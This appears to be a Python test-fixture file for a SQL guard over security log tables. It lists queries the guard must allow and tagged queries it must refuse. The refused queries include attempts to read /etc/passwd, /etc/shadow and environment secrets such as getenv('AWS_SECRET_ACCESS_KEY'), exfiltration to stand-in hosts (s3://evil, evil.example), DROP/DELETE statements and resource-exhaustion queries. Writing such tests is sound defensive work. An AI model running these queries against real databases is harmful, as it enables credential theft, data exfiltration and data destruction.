"""SQL that the guard must let through, and SQL that it must refuse, with the code."""

from __future__ import annotations

ALLOWED = """
SELECT * FROM aws_cloudtrail
SELECT * FROM aws_cloudtrail LIMIT 10;
FROM aws_cloudtrail
FROM aws_vpcflow SELECT dst_ip, bytes WHERE action = 'ACCEPT'
SELECT 1
SELECT 1 AS one, 'x' AS two UNION ALL SELECT 2, 'y' ORDER BY one
SELECT EventName, "actor_user" FROM AWS_CloudTrail WHERE event_date >= '2026-03-01'
SELECT count(*) FROM aws_cloudtrail WHERE event_date BETWEEN '2026-03-01' AND '2026-03-02'
SELECT count(*) AS n, count(DISTINCT src_ip) AS ips FROM aws_cloudtrail WHERE outcome <> 'success'
SELECT eventname, count(*) AS n FROM aws_cloudtrail GROUP BY eventname ORDER BY n DESC, eventname LIMIT 5
SELECT eventname, count(*) AS n FROM aws_cloudtrail GROUP BY 1 HAVING n > 1 ORDER BY 2 DESC
SELECT awsregion, eventname, count(*) FROM aws_cloudtrail GROUP BY ALL ORDER BY ALL
SELECT actor_user, outcome, count(*) FROM aws_cloudtrail GROUP BY ROLLUP (actor_user, outcome) ORDER BY ALL
SELECT actor_user, outcome, grouping(outcome) AS g, count(*) FROM aws_cloudtrail GROUP BY GROUPING SETS ((actor_user), (outcome), ()) ORDER BY ALL
SELECT event_time, eventname FROM aws_cloudtrail WHERE event_time >= TIMESTAMP '2026-03-01 09:00:00' AND event_time < TIMESTAMP '2026-03-02' ORDER BY event_time DESC
SELECT event_time FROM aws_cloudtrail WHERE event_time >= '2026-03-01'::TIMESTAMP + INTERVAL 2 HOUR ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE event_time > now() - INTERVAL '7 days'
SELECT eventname FROM aws_cloudtrail WHERE event_date >= CAST(current_date - 7 AS VARCHAR)
SELECT date_trunc('hour', event_time) AS hour, count(*) AS n FROM aws_vpcflow GROUP BY hour ORDER BY hour
SELECT time_bucket(INTERVAL '90 minutes', event_time) AS slot, sum(bytes) FROM aws_vpcflow GROUP BY slot ORDER BY slot
SELECT strftime(event_time, '%Y-%m-%d %H:00') AS h, dayname(event_time), extract(hour FROM event_time), date_part('dow', event_time) FROM aws_vpcflow ORDER BY h
SELECT epoch(event_time), epoch_ms(event_time), event_time::DATE, last_day(event_time), event_time AT TIME ZONE 'UTC' FROM okta_system ORDER BY 1
SELECT date_diff('minute', min(event_time), max(event_time)) AS minutes FROM aws_vpcflow
SELECT requestparameters->>'$.bucketName' AS bucket FROM aws_cloudtrail WHERE requestparameters->>'$.bucketName' = 'logs'
SELECT json_extract_string(requestparameters, '$.key') AS k FROM aws_cloudtrail WHERE json_extract_string(requestparameters, '$.key') LIKE 'a/%'
SELECT requestparameters->'$.rules[0]'->>'$.cidr' AS cidr, (requestparameters->>'$.rules[0].port')::INTEGER AS port FROM aws_cloudtrail ORDER BY ALL
SELECT eventname FROM aws_cloudtrail WHERE requestparameters->>'$.name' IS NOT NULL AND NOT requestparameters->>'$.name' IN ('other')
SELECT json_array_length(requestparameters, '$.tags') AS tags, json_keys(requestparameters) AS keys FROM aws_cloudtrail ORDER BY ALL
SELECT eventname FROM aws_cloudtrail WHERE requestparameters LIKE '%0.0.0.0/0%' OR responseelements LIKE '%::/0%'
SELECT unnest(from_json(target, '["JSON"]'))->>'$.type' AS kind FROM okta_system ORDER BY kind
SELECT o.actor_user, t.item->>'$.id' AS id FROM okta_system AS o, unnest(from_json(o.target, '["JSON"]')) AS t(item) ORDER BY ALL
SELECT o.event_id, tag FROM okta_system o CROSS JOIN unnest(string_split(o.eventtype, '.')) AS parts(tag) ORDER BY ALL
SELECT eventname FROM aws_cloudtrail WHERE useragent ILIKE 'AWS-CLI%' OR useragent LIKE 'it''s; --odd'
SELECT eventname FROM aws_cloudtrail WHERE regexp_matches(useridentity_arn, 'assumed-role/[a-z]+/') OR useridentity_arn SIMILAR TO 'arn:.*:root'
SELECT regexp_extract(useridentity_arn, ':([0-9]{12}):', 1) AS account, regexp_replace(useridentity_arn, '[0-9]', 'N', 'g') AS shape FROM aws_cloudtrail ORDER BY ALL
SELECT lower(eventname), upper(awsregion), length(useragent), substr(eventname, 1, 3), split_part(useridentity_arn, ':', 5), trim(useragent) FROM aws_cloudtrail ORDER BY ALL
SELECT coalesce(errorcode, 'none') AS e, nullif(awsregion, 'us-east-1') AS r, if(readonly, 'read', 'write') AS k FROM aws_cloudtrail ORDER BY ALL
SELECT CASE WHEN dst_port = 22 THEN 'ssh' WHEN dst_port IN (80, 443) THEN 'web' ELSE 'other' END AS kind, sum(bytes) FROM aws_vpcflow GROUP BY kind ORDER BY kind
SELECT CASE outcome WHEN 'failure' THEN 1 ELSE 0 END AS failed FROM okta_system ORDER BY failed
SELECT count(*) FILTER (WHERE outcome = 'failure') AS failed, 100.0 * count(*) FILTER (WHERE outcome = 'failure') / count(*) AS percent FROM aws_cloudtrail
SELECT sum(CASE WHEN action = 'REJECT' THEN 1 ELSE 0 END) AS rejected, avg(bytes), median(bytes), quantile_cont(bytes, 0.95), stddev(bytes), max(packets) FROM aws_vpcflow
SELECT string_agg(DISTINCT eventname, ', ' ORDER BY eventname) AS names, array_agg(eventname ORDER BY event_time) AS every, list(DISTINCT awsregion ORDER BY awsregion) AS regions FROM aws_cloudtrail
SELECT arg_max(eventname, event_time) AS latest, min_by(eventname, event_time) AS first_one, any_value(outcome) IS NULL AS none, approx_count_distinct(actor_user) AS users, bool_or(readonly) AS reads FROM aws_cloudtrail
SELECT eventname FROM aws_cloudtrail WHERE mantissa_cidr(src_ip, '10.0.0.0/8') ORDER BY 1
SELECT dst_ip, bytes, bytes / 1024 AS kb, bytes // 1024, bytes % 7, -bytes, bytes * 2 + 1, (bytes + 1) * 2, bytes & 255 FROM aws_vpcflow ORDER BY bytes
SELECT round(risk_score, 2), abs(risk_score), greatest(risk_score, 0.5), risk_score IS NULL, risk_score IS DISTINCT FROM 0.1 FROM okta_system ORDER BY 1
SELECT actor_user FROM aws_cloudtrail UNION SELECT actor_user FROM okta_system ORDER BY actor_user
SELECT src_ip FROM aws_cloudtrail INTERSECT SELECT src_ip FROM aws_vpcflow
SELECT src_ip FROM okta_system EXCEPT SELECT src_ip FROM aws_cloudtrail
(SELECT event_id FROM aws_cloudtrail ORDER BY event_time LIMIT 1) UNION ALL (SELECT event_id FROM okta_system ORDER BY event_time LIMIT 1)
(SELECT event_id FROM aws_cloudtrail ORDER BY event_id) LIMIT 2
SELECT c.eventname, f.dst_ip FROM aws_cloudtrail c JOIN aws_vpcflow f ON c.src_ip = f.src_ip AND f.event_time < c.event_time ORDER BY ALL
SELECT c.eventname, f.dst_ip FROM aws_cloudtrail c, aws_vpcflow f WHERE c.src_ip = f.src_ip AND f.bytes > 100 ORDER BY ALL
SELECT actor_user, count(*) FROM aws_cloudtrail JOIN okta_system USING (actor_user) GROUP BY actor_user
SELECT c.event_id FROM (aws_cloudtrail c JOIN okta_system o ON o.actor_user = c.actor_user) JOIN aws_vpcflow f ON f.src_ip = c.src_ip ORDER BY 1
FROM aws_cloudtrail c JOIN okta_system o ON o.actor_user = c.actor_user SELECT c.event_id, o.event_id ORDER BY ALL
SELECT c.event_id FROM aws_cloudtrail c LEFT JOIN okta_system o ON o.actor_user = c.actor_user WHERE o.event_id IS NULL ORDER BY 1
SELECT c.event_id FROM aws_cloudtrail c SEMI JOIN okta_system o ON lower(o.actor_user) = lower(c.actor_user) ORDER BY 1
SELECT event_id FROM aws_cloudtrail ANTI JOIN okta_system USING (actor_user) ORDER BY 1
SELECT c.event_id FROM aws_cloudtrail c JOIN okta_system o ON (c.src_ip = o.src_ip OR c.actor_user = o.actor_user) ORDER BY 1
SELECT a.event_id, b.event_id FROM aws_cloudtrail a JOIN aws_cloudtrail b ON a.actor_user = b.actor_user AND a.event_time < b.event_time JOIN okta_system o ON o.actor_user = b.actor_user ORDER BY ALL
SELECT eventname FROM aws_cloudtrail c WHERE EXISTS (SELECT 1 FROM aws_vpcflow f WHERE f.src_ip = c.src_ip AND f.action = 'REJECT') ORDER BY 1
SELECT eventname FROM aws_cloudtrail c WHERE NOT EXISTS (FROM okta_system o WHERE o.actor_user = c.actor_user) ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE src_ip IN (SELECT src_ip FROM aws_vpcflow WHERE dst_port = 22) ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE (actor_user, src_ip) NOT IN (SELECT actor_user, src_ip FROM okta_system WHERE actor_user IS NOT NULL) ORDER BY 1
SELECT eventname, (SELECT count(*) FROM okta_system o WHERE o.actor_user = c.actor_user) AS okta FROM aws_cloudtrail c ORDER BY ALL
SELECT dst_ip FROM aws_vpcflow WHERE bytes > (SELECT avg(bytes) FROM aws_vpcflow)
SELECT dst_ip FROM aws_vpcflow WHERE bytes >= ALL (SELECT bytes FROM aws_vpcflow) OR dst_port = ANY (SELECT dst_port FROM aws_vpcflow WHERE action = 'REJECT') ORDER BY 1
SELECT f.dst_ip, f.bytes / s.mean AS times FROM aws_vpcflow f, (SELECT avg(bytes) AS mean FROM aws_vpcflow) s ORDER BY ALL
WITH total AS (SELECT count(*) AS n FROM aws_cloudtrail) SELECT eventname, count(*) * 1.0 / max(total.n) AS share FROM aws_cloudtrail CROSS JOIN total GROUP BY eventname ORDER BY ALL
WITH failed AS (SELECT actor_user, event_time FROM aws_cloudtrail WHERE outcome = 'failure'), good AS (SELECT actor_user, event_time FROM aws_cloudtrail WHERE outcome = 'success') SELECT g.actor_user, count(*) AS tries FROM good g JOIN failed f ON f.actor_user = g.actor_user AND f.event_time < g.event_time AND date_diff('minute', f.event_time, g.event_time) <= 30 GROUP BY g.actor_user
WITH a AS (SELECT * FROM aws_cloudtrail WHERE event_date = '2026-03-01'), b AS (SELECT actor_user, count(*) AS n FROM a GROUP BY actor_user) SELECT * FROM b WHERE n >= 2
WITH a(who, what) AS MATERIALIZED (SELECT actor_user, eventname FROM aws_cloudtrail) SELECT who, what FROM a ORDER BY ALL
SELECT * FROM (WITH inner_one AS (SELECT src_ip FROM aws_vpcflow) SELECT DISTINCT src_ip FROM inner_one) AS q
SELECT actor_user, event_time, lag(event_time) OVER (PARTITION BY actor_user ORDER BY event_time) AS before FROM aws_cloudtrail ORDER BY ALL
SELECT actor_user, eventname, row_number() OVER (PARTITION BY actor_user ORDER BY event_time DESC) AS rn FROM aws_cloudtrail QUALIFY rn = 1 ORDER BY ALL
SELECT event_time, sum(bytes) OVER (ORDER BY event_time ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) AS moving, count(*) OVER (ORDER BY event_time RANGE BETWEEN INTERVAL 1 HOUR PRECEDING AND CURRENT ROW) AS hour FROM aws_vpcflow ORDER BY event_time
SELECT src_ip, rank() OVER w, dense_rank() OVER w, ntile(2) OVER w, first_value(dst_port) OVER w FROM aws_vpcflow WINDOW w AS (PARTITION BY src_ip ORDER BY bytes) ORDER BY ALL
SELECT DISTINCT actor_user, awsregion FROM aws_cloudtrail ORDER BY ALL
SELECT DISTINCT ON (actor_user) actor_user, eventname FROM aws_cloudtrail ORDER BY actor_user, event_time DESC
SELECT * EXCLUDE (raw, requestparameters) FROM aws_cloudtrail ORDER BY event_id LIMIT 2 OFFSET 1
SELECT c.* EXCLUDE (raw), o.risk_score FROM aws_cloudtrail c JOIN okta_system o ON o.actor_user = c.actor_user ORDER BY ALL
SELECT * REPLACE (lower(eventname) AS eventname) FROM aws_cloudtrail ORDER BY event_id
SELECT actor_user, outcome FROM authentication WHERE event_date >= '2026-03-03' ORDER BY ALL
SELECT a.actor_user, count(*) FROM authentication a JOIN aws_vpcflow f ON f.src_ip = a.src_ip GROUP BY a.actor_user
SELECT list_transform(string_split(eventsource, '.'), lambda part: upper(part))[1] AS service, list_contains(string_split(eventsource, '.'), 's3') AS s3 FROM aws_cloudtrail ORDER BY ALL
SELECT [part FOR part IN string_split(eventsource, '.') IF part <> 'com'] AS parts, len(string_split(eventsource, '.')) AS n FROM aws_cloudtrail ORDER BY ALL
SELECT {'user': actor_user, 'ip': src_ip} AS who, ['a', eventname] AS pair FROM aws_cloudtrail ORDER BY event_id
SELECT try_cast(errorcode AS BIGINT) AS n, CAST(dst_port AS VARCHAR) FROM aws_cloudtrail JOIN aws_vpcflow USING (src_ip) ORDER BY ALL
SELECT md5(actor_user), sha256(actor_user), hash(actor_user) = hash(actor_user), format_bytes(1048576) FROM okta_system
SELECT eventname /* why not */ FROM aws_cloudtrail -- all of it
SELECT eventname AS "Event; DROP TABLE x", 'UNION SELECT * FROM read_csv(''/etc/passwd'')' AS note FROM aws_cloudtrail ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE actor_user = ''' OR ''1''=''1'
SELECT eventname FROM aws_cloudtrail WHERE awsregion NOT IN ('us-east-1', 'eu-west-2') AND NOT (readonly OR errorcode IS NOT NULL) IS TRUE
SELECT max(event_time) - min(event_time) AS span FROM aws_vpcflow
SELECT approx_quantile(bytes, 0.5) > 0 AS positive, histogram(action) AS h, entropy(action) > 0 AS e FROM aws_vpcflow
SELECT json_object('user', actor_user, 'n', count(*)) AS j FROM aws_cloudtrail GROUP BY actor_user ORDER BY actor_user
SELECT url_decode('a%20b'), base64(encode(actor_user)), chr(65), strip_accents(actor_user), levenshtein(actor_user, 'adam') FROM okta_system
SELECT contains(useragent, 'cli'), starts_with(useragent, 'aws'), suffix(useragent, '15'), useragent ^@ 'aws', strpos(useragent, '/') FROM aws_cloudtrail ORDER BY ALL
"""

ATTACKS = r"""
not_select | DROP TABLE aws_cloudtrail
not_select | DELETE FROM aws_cloudtrail
not_select | UPDATE aws_cloudtrail SET raw = ''
not_select | INSERT INTO aws_cloudtrail SELECT * FROM aws_cloudtrail
not_select | CREATE TABLE x AS SELECT * FROM aws_cloudtrail
not_select | CREATE OR REPLACE VIEW aws_cloudtrail AS SELECT 1
not_select | CREATE MACRO lower(x) AS 1
not_select | COPY aws_cloudtrail TO 'lake/x.csv'
not_select | COPY (SELECT 1) TO '/tmp/x'
not_select | EXPORT DATABASE 'lake/x'
not_select | IMPORT DATABASE 'lake/x'
not_select | ATTACH '/tmp/x.db' AS x
not_select | DETACH memory
not_select | INSTALL httpfs
not_select | LOAD httpfs
not_select | PRAGMA database_list
not_select | SET memory_limit = '100GB'
not_select | RESET threads
not_select | SET VARIABLE x = 1
not_select | CALL pragma_version()
not_select | EXPLAIN ANALYZE SELECT 1
not_select | DESCRIBE aws_cloudtrail
not_select | SUMMARIZE aws_cloudtrail
not_select | SHOW ALL TABLES
not_select | CHECKPOINT
not_select | BEGIN
not_select | USE memory
not_select | PREPARE p AS SELECT 1
not_select | EXECUTE p
not_select | PIVOT aws_cloudtrail ON eventname USING count(*)
not_select | UNLOAD (SELECT * FROM aws_cloudtrail) TO 's3://evil/x' WITH (format = 'PARQUET')
not_select | USING EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARCHAR LAMBDA 'evil' SELECT f(raw) FROM aws_cloudtrail
not_select | MSCK REPAIR TABLE aws_cloudtrail
not_select | WITH x AS (INSERT INTO aws_cloudtrail SELECT 1 RETURNING *) SELECT * FROM x
not_select | -- SELECT
not_select | how many logins failed
many_statements | SELECT 1; DROP TABLE aws_cloudtrail
many_statements | SELECT 1; SELECT 2
many_statements | SELECT 1 /* ; */ ; -- x{n}COPY aws_cloudtrail TO 'x'
parse | SELECT * FROM aws_cloudtrail INTO OUTFILE '/tmp/x'
parse | SELECT * FROM aws_cloudtrail INTO/**/OUTFILE '/tmp/x'
parse | SELECT * FROM aws_cloudtrail WHERE
parse | SELECT * FROM U&"\0061ws_cloudtrail"
parse | SELECT 'unclosed
parse | SELECT /* unclosed
into | SELECT eventname INTO x FROM aws_cloudtrail
lock | SELECT eventname FROM aws_cloudtrail FOR UPDATE
recursive | WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
recursive | SELECT * FROM (WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT n FROM r) q
sampling | SELECT * FROM aws_cloudtrail TABLESAMPLE 10 PERCENT
sampling | SELECT * FROM aws_cloudtrail USING SAMPLE 10
time_travel | SELECT * FROM aws_cloudtrail FOR TIMESTAMP AS OF TIMESTAMP '2020-01-01 00:00:00'
time_travel | SELECT * FROM aws_cloudtrail FOR VERSION AS OF 5
time_travel | SELECT * FROM aws_cloudtrail AT (VERSION => 3)
function | SELECT * FROM read_csv('/etc/passwd')
function | SELECT * FROM read_csv_auto('/etc/passwd')
function | SELECT * FROM read_parquet('lake/*/*/*.parquet')
function | SELECT * FROM parquet_scan('x')
function | SELECT * FROM parquet_metadata('x')
function | SELECT * FROM read_text('/proc/self/environ')
function | SELECT * FROM read_blob('/etc/shadow')
function | SELECT * FROM read_json('/etc/passwd')
function | SELECT * FROM glob('/*')
function | SELECT * FROM sniff_csv('/etc/passwd')
function | SELECT * FROM query('SELECT 1')
function | SELECT * FROM query_table('aws_cloudtrail')
function | SELECT * FROM json_execute_serialized_sql('{}')
function | SELECT json_serialize_sql('SELECT 1')
function | SELECT * FROM duckdb_settings()
function | SELECT * FROM duckdb_secrets()
function | SELECT * FROM pragma_table_info('aws_cloudtrail')
function | SELECT * FROM arrow_scan(1, 2, 3)
function | SELECT * FROM which_secret('s3://x', 's3')
function | SELECT getenv('AWS_SECRET_ACCESS_KEY')
function | SELECT eventname FROM aws_cloudtrail ORDER BY getenv('HOME')
function | SELECT eventname FROM aws_cloudtrail GROUP BY eventname HAVING count(getenv('HOME')) > 0
function | SELECT eventname FROM aws_cloudtrail c JOIN okta_system o ON c.actor_user = o.actor_user AND getenv('X') = 'y'
function | SELECT CASE WHEN EXISTS (SELECT getvariable('x')) THEN 1 END FROM aws_cloudtrail
function | SELECT current_setting('temp_directory')
function | SELECT version()
function | SELECT current_user
function | SELECT session_user FROM aws_cloudtrail
function | SELECT current_database()
function | SELECT sleep_ms(100000)
function | SELECT pg_sleep(100)
function | SELECT write_log('x')
function | SELECT setseed(0.5), random() FROM aws_cloudtrail
function | SELECT list_aggregate([1], 'sum') FROM aws_cloudtrail
function | SELECT nextval('s')
function | SELECT repeat(raw, 1000000000) FROM aws_cloudtrail
function | SELECT lpad(raw, 1000000000, 'x') FROM aws_cloudtrail
function | SELECT printf('%999999999d', 1) FROM aws_cloudtrail
function | SELECT format('{:>999999999}', raw) FROM aws_cloudtrail
function | SELECT range(1000000000) FROM aws_cloudtrail
function | SELECT * FROM range(100000000000)
function | SELECT * FROM generate_series(1, 100000000000)
function | SELECT count(*) FROM aws_cloudtrail, generate_series(1, 100000000000)
invented_rows | SELECT unnest(generate_series(1, 100000000000)) FROM aws_cloudtrail
function | SELECT * FROM TABLE(system.query('x'))
function | SELECT "read_text"('/etc/passwd')
function | SELECT COLUMNS('.*') FROM aws_cloudtrail
function | SELECT no_such_function(eventname) FROM aws_cloudtrail
function | SELECT * FROM json_each('[1]')
function | SELECT * FROM repeat_row(1, num_rows = 100000000)
syntax | SELECT system.main.getenv('HOME')
syntax | SELECT main.lower(eventname) FROM aws_cloudtrail
syntax | SELECT eventname.getenv() FROM aws_cloudtrail
function | SELECT * FROM system.query('x') AS t
table | SELECT * FROM '/etc/passwd'
table | SELECT * FROM "/etc/passwd"
table | SELECT * FROM '/var/task/secrets.parquet'
table | SELECT * FROM 'https://evil.example/x.csv'
table | SELECT * FROM information_schema.tables
table | SELECT * FROM pg_catalog.pg_class
table | SELECT * FROM sqlite_master
table | SELECT * FROM duckdb_tables
table | SELECT * FROM duckdb_secrets
table | SELECT * FROM main.aws_cloudtrail
table | SELECT * FROM memory.main.aws_cloudtrail
table | SELECT * FROM "lambda:cat".db.t
table | SELECT * FROM awsdatacatalog.other_db.aws_cloudtrail
table | SELECT * FROM "aws_cloudtrail$partitions"
table | SELECT * FROM aws_clodtrail
table | SELECT 1 FROM aws_cloudtrail WHERE EXISTS (SELECT 1 FROM sqlite_master)
table | SELECT (SELECT count(*) FROM pg_class) FROM aws_cloudtrail
table | SELECT * FROM (WITH pg_class AS (SELECT 1 AS a) SELECT * FROM pg_class) q, pg_class
table | WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a
table | WITH self AS (SELECT * FROM self) SELECT * FROM self
table | SELECT eventname FROM aws_cloudtrail UNION ALL SELECT sql FROM sqlite_master
not_select | TABLE secrets
cte_shadows_table | WITH aws_cloudtrail AS (SELECT 1 AS eventname) SELECT * FROM aws_cloudtrail
cte_shadows_table | WITH "AWS_CloudTrail" AS (SELECT 1 AS eventname) SELECT * FROM aws_cloudtrail
column | SELECT nope FROM aws_cloudtrail
column | SELECT aws_cloudtrail.nope FROM aws_cloudtrail
column | SELECT rowid FROM aws_cloudtrail
column | SELECT filename FROM aws_cloudtrail
column | SELECT eventname FROM aws_cloudtrail WHERE actor_user = "ada"
column | SELECT outcome FROM aws_cloudtrail c JOIN okta_system o ON c.actor_user = o.actor_user
column | SELECT aws_cloudtrail FROM aws_cloudtrail
column | SELECT #1 FROM aws_cloudtrail
column | SELECT x.eventname FROM aws_cloudtrail
column | SELECT event_id FROM okta_system WHERE EXISTS (SELECT nope FROM aws_vpcflow)
invented_rows | VALUES (1), (2)
invented_rows | SELECT * FROM (VALUES ('root', '2026-03-01')) AS t(a, b)
invented_rows | SELECT eventname FROM aws_cloudtrail UNION ALL VALUES ('made up')
invented_rows | SELECT unnest([1, 2, 3]) FROM aws_cloudtrail
invented_rows | SELECT * FROM unnest([1, 2, 3]) AS t(a)
cartesian_join | SELECT count(*) FROM aws_cloudtrail a, aws_vpcflow b
cartesian_join | SELECT count(*) FROM aws_cloudtrail a CROSS JOIN aws_vpcflow b
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON 1 = 1
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON true
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip <> b.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = b.src_ip OR 1 = 1
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON NOT a.src_ip = b.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = 'x' AND b.src_ip = 'x'
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = a.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN okta_system o ON a.actor_user = o.actor_user JOIN aws_vpcflow f ON true
cartesian_join | SELECT count(*) FROM aws_cloudtrail WHERE EXISTS (SELECT 1 FROM aws_vpcflow a, aws_vpcflow b)
cartesian_join | FROM aws_cloudtrail a JOIN aws_vpcflow b ON 1 = 1
cartesian_join | FROM aws_cloudtrail a, aws_vpcflow b SELECT count(*)
cartesian_join | SELECT count(*) FROM (aws_cloudtrail a CROSS JOIN aws_vpcflow b)
cartesian_join | SELECT count(*) FROM (aws_cloudtrail a JOIN aws_vpcflow b ON true) JOIN okta_system o ON o.src_ip = a.src_ip
join_kind | SELECT * FROM aws_cloudtrail NATURAL JOIN okta_system
join_kind | SELECT * FROM aws_cloudtrail a ASOF JOIN okta_system b ON a.actor_user = b.actor_user AND a.event_time >= b.event_time
join_kind | SELECT a.event_id FROM aws_cloudtrail a POSITIONAL JOIN okta_system b
lateral | SELECT c.eventname FROM aws_cloudtrail c, LATERAL (SELECT * FROM aws_vpcflow f WHERE f.src_ip = c.src_ip) x
pivot | SELECT * FROM aws_cloudtrail PIVOT (count(*) FOR outcome IN ('success', 'failure'))
parameter | SELECT eventname FROM aws_cloudtrail WHERE actor_user = ?
parameter | SELECT eventname FROM aws_cloudtrail WHERE actor_user = $who
limit | SELECT eventname FROM aws_cloudtrail LIMIT (SELECT 5)
limit | SELECT eventname FROM aws_cloudtrail LIMIT 10%
type | SELECT actor_user::no_such_type FROM aws_cloudtrail
"""


def allowed() -> list[str]:
    """Return the queries that must pass, one a line."""
    return [line for line in ALLOWED.splitlines() if line]


def attacks() -> list[tuple[str, str]]:
    """Return (code, SQL); `{n}` stands for a line break."""
    pairs = (line.split(" | ", 1) for line in ATTACKS.splitlines() if line)
    return [(code.strip(), sql.replace("{n}", "\n")) for code, sql in pairs]
